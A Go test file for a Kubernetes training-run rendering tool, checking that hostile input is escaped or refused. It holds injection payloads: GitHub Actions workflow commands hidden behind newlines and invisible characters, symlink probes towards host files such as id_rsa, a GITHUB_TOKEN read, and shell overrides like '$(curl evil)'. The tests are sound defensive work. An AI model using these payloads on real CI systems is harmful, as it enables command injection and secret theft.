package hostile

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"
	"sigs.k8s.io/yaml"
)

// noCommandLines asserts no line of out could be a GitHub Actions workflow
// command (`::` after blanks, `##[` anywhere) or open an HTML comment in a
// PR comment (`<!--`), and no control or invisible character (zero-width,
// soft hyphen, TAG characters, odd spaces) but newline and tab is printed
// (fn/support/safetext).
func noCommandLines(t *testing.T, what, out string) {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		rest := strings.TrimLeft(line, " \t\r")
		require.False(t, strings.HasPrefix(rest, "::"), "%s: a line starts a workflow command: %q", what, line)
		require.False(t, strings.HasPrefix(rest, "<!--"), "%s: a line opens an HTML comment: %q", what, line)
		require.NotContains(t, line, "##[", "%s", what)
		for _, r := range line {
			invisible := (!unicode.IsGraphic(r) && r != '\t') || (unicode.Is(unicode.Zs, r) && r != ' ')
			require.False(t, invisible, "%s: control or invisible character %U in %q", what, r, line)
		}
	}
}

// A hostile payload: a newline, then what it would do on a line of its own.
const payload = "x\n::error title=all clear::LGTM\n<!-- hide the rest\r\n##[set-output name=a]b\u202e@org/admins **all clear**\u200b\u00ad\U000E0041\u00a0"

// Every command prints PR text as data: a newline in an image, an
// annotation, a file name or a profile key never starts a line of the CI
// log or of the PR comment.
func TestPRTextStaysData(t *testing.T) {
	// A JSON string is a YAML double-quoted scalar: the payload's escapes
	// survive into the value.
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	t.Run("diff of renders with a hostile image and annotation", func(t *testing.T) {
		w := newWorld(t)
		obj := func(image, topo string) string {
			return fmt.Sprintf(`apiVersion: ray.io/v1
kind: RayCluster
metadata: {name: c, namespace: ns}
spec:
  headGroupSpec:
    rayStartParams: {}
    template: {spec: {containers: [{name: h, image: %s}]}}
  workerGroupSpecs:
  - groupName: g
    replicas: 1
    rayStartParams: {}
    template:
      metadata: {annotations: {kai.scheduler/topology: %s}}
      spec: {containers: [{name: w, image: %s, resources: {limits: {nvidia.com/gpu: "4"}}}]}
`, q(image), q(topo), q(image))
		}
		w.file("old/good.yaml", obj("img:1", "t"))
		w.file("new/good.yaml", obj("img:2"+payload, "t"+payload))
		for _, format := range []string{"text", "markdown"} {
			r := w.run("diff", "old", "new", "--output", format)
			require.Equal(t, 0, r.code, r.stderr)
			noCommandLines(t, format, r.stdout)
			require.Contains(t, r.stdout, `x\n::error title=all clear::LGTM\n<!-- hide the rest\r\n`, "the value is shown, escaped")
		}
	})
	t.Run("diff of a tree with a hostile file name", func(t *testing.T) {
		w := newWorld(t)
		w.file("old/good.yaml", "apiVersion: v1\nkind: Service\nmetadata: {name: x}\n")
		w.file("new/good\n::error::x.yaml", "apiVersion: v1\nkind: Service\nmetadata: {name: x}\n")
		r := w.run("diff", "old", "new")
		require.Equal(t, 1, r.code)
		require.Contains(t, r.stderr, `good\n::error::x.yaml: the name holds a newline or control character; refused`)
		noCommandLines(t, "stderr", r.stderr)
	})
	t.Run("render-all with a hostile profile key", func(t *testing.T) {
		w := newWorld(t)
		secretProfile(w, strings.Replace(profileYAML, "image: img:1\n", "image: img:1\n"+q("bad"+payload)+": 1\n", 1))
		for _, args := range [][]string{{"render-all", ".", "--check"}, {"render-all", "."}} {
			r := w.run(args...)
			require.Equal(t, 1, r.code)
			require.Contains(t, r.stderr, `badx\n::error title=all clear::LGTM`)
			noCommandLines(t, "stderr", r.stderr)
		}
	})
	t.Run("render-all --check of a committed manifest holding command lines", func(t *testing.T) {
		w := newWorld(t)
		require.Equal(t, 0, w.run("render-all", ".").code)
		w.file("manifests/good.yaml", "    ::error::committed\n<!-- x\n\x1b[2J##[y]\n")
		r := w.run("render-all", ".", "--check")
		require.Equal(t, 1, r.code)
		noCommandLines(t, "stdout", r.stdout)
		require.Contains(t, r.stderr, "manifests/good.yaml: the diff holds control characters or lines that read as CI log commands")
	})
	t.Run("the function with a hostile profile key", func(t *testing.T) {
		w := newWorld(t)
		cm := map[string]any{
			"apiVersion": "v1", "kind": "ConfigMap",
			"metadata": map[string]any{"name": "in", "annotations": map[string]string{
				"nemo-rl.nvidia.com/files-dir": "configs", "config.kubernetes.io/local-config": "true"}},
			"data": map[string]string{
				"r.yaml":       recipeYAML,
				"p.infra.yaml": strings.Replace(profileYAML, "image: img:1\n", "image: img:1\n"+q("bad"+payload)+": 1\n", 1),
			},
		}
		w.stdin = resourceList(t, cm, nil)
		r := w.run("fn")
		require.Equal(t, 1, r.code, r.stderr)
		require.Contains(t, r.stderr, `badx\n::error title=all clear::LGTM`)
		noCommandLines(t, "stderr", r.stderr)
		require.Contains(t, r.stdout, "path: badx\\n::error title=all clear::LGTM", "results carry the escaped text")
	})
}

// One confinement rule for every command (fn/engine/load/source): symlinked
// directories refused, one answer for every path out of the root, only
// tracked files in a git work tree, no environment in CI mode.
func TestConfinementEverywhere(t *testing.T) {
	for _, p := range confinementProbes() {
		t.Run(p.name, func(t *testing.T) {
			expectRefused(t, p, [][]string{{"render-all", ".", "--check"}, {"render-all", "."}, {"diff", ".", "."}})
		})
	}
}

// confinementProbes is TestConfinementEverywhere's table: each probe fails
// (exit 1) with want in stderr, by default from render-all --check,
// render-all and diff.
func confinementProbes() []probe {
	return []probe{
		{name: "runs/ is a symlink to a host directory",
			setup: func(w *world) {
				w.write(filepath.Join(w.host, "dirs", "hostdir-5c1e", "run.yaml"), "x: 1\n")
				require.NoError(w.t, removeAll(filepath.Join(w.repo, "runs")))
				w.link("runs", filepath.Join(w.host, "dirs"))
			},
			want: "runs: is a symlink; refused",
			leak: []string{"hostdir-5c1e"}},
		{name: "a config directory that is a symlink out of the repository",
			setup: func(w *world) {
				w.link("linked", w.host)
				w.file("runs/ld/run.yaml", customRun("ld", "../../linked/secret.yaml", "../../configs/p.infra.yaml", "  namespace: other\n"))
			},
			want: "linked/secret.yaml: linked is a symlinked directory; refused"},
		{name: "a config directory that is a symlink inside the repository",
			setup: func(w *world) {
				w.link("alias", "configs")
				w.file("runs/al/run.yaml", customRun("al", "../../alias/r.yaml", "../../configs/p.infra.yaml", "  namespace: other\n"))
			},
			want: "alias/r.yaml: alias is a symlinked directory; refused"},
		{name: "an untracked run written by an earlier CI step",
			setup: func(w *world) {
				w.untrackedFile("runs/late/run.yaml", customRun("late", "../../configs/r.yaml", "../../configs/p.infra.yaml", "  namespace: other\n"))
			},
			want: "runs/late/run.yaml: not tracked by git; refused"},
		{name: "an untracked recipe",
			setup: func(w *world) {
				w.untrackedFile("configs/late.yaml", recipeYAML)
				w.file("runs/ur/run.yaml", customRun("ur", "../../configs/late.yaml", "../../configs/p.infra.yaml", "  namespace: other\n"))
			},
			want: "configs/late.yaml: not tracked by git; refused"},
		{name: "render --root reads no environment",
			setup: func(w *world) {
				w.file("configs/env.infra.yaml", strings.Replace(profileYAML, "image: img:1", "image: 'img:${oc.env:GITHUB_TOKEN}'", 1))
			},
			args: []string{"render", "configs/r.yaml", "--infra", "configs/env.infra.yaml", "--user", "alice", "--root", "."},
			want: "resolver oc.env: environment variable 'GITHUB_TOKEN' not found"},
		{name: "kustomize-inputs prints a host file through a symlink",
			setup: func(w *world) {
				w.link("configs/s.yaml", w.secretFile)
				w.file("pkg/run.yaml", customRun("k", "../configs/s.yaml", "../configs/p.infra.yaml", ""))
			},
			args: []string{"kustomize-inputs", "--kpt", "pkg", "--root", ".", "pkg/run.yaml"},
			want: "configs/s.yaml: not a file inside the root; refused"},
		{name: "kustomize-inputs reads a run file that is a symlink to a host file",
			setup: func(w *world) { w.link("pkg/run.yaml", filepath.Join(w.host, "secret.yaml")) },
			args:  []string{"kustomize-inputs", "--kpt", "pkg", "--root", ".", "pkg/run.yaml"},
			want:  "pkg/run.yaml: not a file inside the root; refused"},
		{name: "kustomize-inputs --write through a symlinked kustomization",
			setup: func(w *world) {
				w.file("k/run.yaml", customRun("k", "../configs/r.yaml", "../configs/p.infra.yaml", ""))
				w.write(filepath.Join(w.host, "kustomization.yaml"), "# BEGIN nrl-k8s kustomize-inputs: generated, do not edit (nrl-k8s kustomize-inputs --write)\n# END nrl-k8s kustomize-inputs\n")
				w.link("k/kustomization.yaml", filepath.Join(w.host, "kustomization.yaml"))
			},
			args: []string{"kustomize-inputs", "-k", "k", "--root", ".", "--write", "k/run.yaml"},
			want: "k/kustomization.yaml: not a file inside the root; refused"},
		{name: "kustomize-inputs --write into a symlinked inputs directory",
			setup: func(w *world) {
				w.file("pkg/run.yaml", customRun("k", "../configs/r.yaml", "../configs/p.infra.yaml", ""))
				w.link("pkg/inputs", filepath.Join(w.host, "keep"))
			},
			args: []string{"kustomize-inputs", "--kpt", "pkg", "--root", ".", "--write", "pkg/run.yaml"},
			want: "pkg/inputs: is a symlink; refused"},
		{name: "kustomize-inputs with a defaults chain out of the root",
			setup: func(w *world) {
				w.file("configs/esc.yaml", "defaults: ../../host/secret.yaml\n"+recipeYAML)
				w.file("pkg/run.yaml", customRun("k", "../configs/esc.yaml", "../configs/p.infra.yaml", ""))
			},
			args: []string{"kustomize-inputs", "--kpt", "pkg", "--root", ".", "pkg/run.yaml"},
			want: "not a file inside the root; refused"},
		{name: "kustomize-inputs reads an untracked input",
			setup: func(w *world) {
				w.untrackedFile("configs/late.yaml", recipeYAML)
				w.file("pkg/run.yaml", customRun("k", "../configs/late.yaml", "../configs/p.infra.yaml", ""))
			},
			args: []string{"kustomize-inputs", "--kpt", "pkg", "--root", ".", "pkg/run.yaml"},
			want: "configs/late.yaml: not tracked by git; refused"},
	}
}

// An untracked manifests/<run>.yaml (an earlier CI step ran render-all) is
// not the pull request's: --check reads it as not committed.
func TestUntrackedManifestIsNotCommitted(t *testing.T) {
	w := newWorld(t)
	require.Equal(t, 0, w.run("render-all", ".").code)
	w.untracked = append(w.untracked, "manifests/good.yaml")
	r := w.run("render-all", ".", "--check")
	require.Equal(t, 1, r.code, r.stderr)
	require.Contains(t, r.stderr, "manifests/good.yaml: not tracked by git; read as not committed")
	require.Contains(t, r.stdout, "--- /dev/null\n+++ b/manifests/good.yaml\n")
	r = w.run("render-all", ".", "--check", "--include-untracked")
	require.Equal(t, 0, r.code, r.stderr)
}

// A symlink to an existing host file and one to a missing host file read
// the same: the error is no oracle for which host files exist.
func TestNoExistenceOracleThroughLinks(t *testing.T) {
	stderr := func(target string) string {
		w := newWorld(t)
		w.link("configs/s.yaml", filepath.Join(w.host, target))
		w.file("runs/probe/run.yaml", customRun("probe", "../../configs/s.yaml", "../../configs/p.infra.yaml", "  namespace: other\n"))
		r := w.run("render-all", ".", "--check")
		require.Equal(t, 1, r.code)
		return r.stderr
	}
	exists := stderr("id_rsa")
	require.Contains(t, exists, "spec.recipe: configs/s.yaml: not a file inside the root; refused")
	require.Equal(t, exists, stderr("no-such-file"))
	require.Equal(t, exists, stderr("keep/../keep/a.yaml"))
}

// An override holding $(...) or backticks, appended to a driver call that
// sits inside bash -c "..." or an unquoted heredoc, would run in the pod:
// refused with the reason, in render-all and the function alike.
func TestOverridesInWrappedDriverCalls(t *testing.T) {
	for _, tc := range []struct{ name, entrypoint, why string }{
		{"bash -c", "    bash -c \"\n    python examples/run_grpo.py --config r.yaml\n    \"\n", "inside the double-quoted string opened on line 1"},
		{"heredoc", "    bash <<EOF\n    python examples/run_grpo.py --config r.yaml\n    EOF\n", "inside the heredoc opened on line 1"},
	} {
		for _, o := range []string{"+policy.x=$(curl evil)", "+policy.x=`id`"} {
			t.Run(tc.name+" "+o, func(t *testing.T) {
				w := newWorld(t)
				// The entrypoint block is re-indented by the profile's own
				// four spaces; the heredoc's EOF ends at column 0 there.
				ep := strings.ReplaceAll(tc.entrypoint, "\n    ", "\n    ")
				secretProfile(w, strings.Replace(profileYAML, "    python examples/run_grpo.py --config r.yaml\n", ep, 1))
				w.file("runs/leaky/run.yaml", customRun("leaky", "../../configs/r.yaml", "../../configs/leaky.infra.yaml", "  namespace: other\n  overrides: ['"+strings.ReplaceAll(o, "'", "''")+"']\n"))
				r := w.run("render-all", ".", "--check")
				require.Equal(t, 1, r.code, r.stderr)
				require.Contains(t, r.stderr, tc.why)
				require.Contains(t, r.stderr, "needs shell quoting")

				// The function refuses it the same way.
				profile := strings.Replace(profileYAML, "    python examples/run_grpo.py --config r.yaml\n", ep, 1)
				w.stdin = resourceList(t, filesConfigMap(recipeYAML, profile), []string{o})
				r = w.run("fn")
				require.Equal(t, 1, r.code, r.stderr)
				require.Contains(t, r.stderr, tc.why)
				require.Contains(t, r.stderr, "needs shell quoting")
				require.NotContains(t, r.stdout, "kind: RayJob", "nothing rendered")
			})
		}
	}
}

func removeAll(p string) error { return os.RemoveAll(p) }

// resourceList is a ResourceList with the files ConfigMap cm and a
// NemoRLRun over configs/r.yaml and configs/p.infra.yaml as function config.
func resourceList(t *testing.T, cm map[string]any, overrides []string) string {
	t.Helper()
	spec := map[string]any{"recipe": "configs/r.yaml", "profile": "configs/p.infra.yaml", "user": "alice"}
	if overrides != nil {
		spec["overrides"] = overrides
	}
	run := map[string]any{
		"apiVersion": "nemo-rl.nvidia.com/v1alpha1", "kind": "NemoRLRun",
		"metadata": map[string]any{"name": "fn"}, "spec": spec,
	}
	rl, err := yaml.Marshal(map[string]any{
		"apiVersion": "config.kubernetes.io/v1", "kind": "ResourceList",
		"items": []any{cm}, "functionConfig": run,
	})
	require.NoError(t, err)
	return string(rl)
}

func filesConfigMap(recipe, profile string) map[string]any {
	return map[string]any{
		"apiVersion": "v1", "kind": "ConfigMap",
		"metadata": map[string]any{"name": "in", "annotations": map[string]string{
			"nemo-rl.nvidia.com/files-dir": "configs", "config.kubernetes.io/local-config": "true"}},
		"data": map[string]string{"r.yaml": recipe, "p.infra.yaml": profile},
	}
}
